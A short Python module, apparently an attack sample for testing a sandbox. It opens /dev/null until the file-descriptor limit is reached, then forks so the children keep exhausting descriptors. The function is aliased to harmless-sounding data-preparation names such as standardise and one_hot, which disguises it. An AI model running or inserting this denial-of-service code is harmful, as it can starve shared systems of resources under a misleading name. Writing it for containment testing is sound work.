"""Tries to use up the machine's table of open files; gains nothing because a process may open a thousand, and
there are not many processes.
"""

import os

print("attack: opening", flush=True)


def split_indices(*args, **kwargs):
    kept = []
    while True:
        try:
            kept.append(os.open("/dev/null", os.O_RDONLY))
        except OSError as error:
            print("attack:", len(kept), error.strerror, flush=True)
            if os.fork() == 0:
                kept.clear()
                continue
            raise


channel_statistics = standardise = one_hot = prepare = split_indices
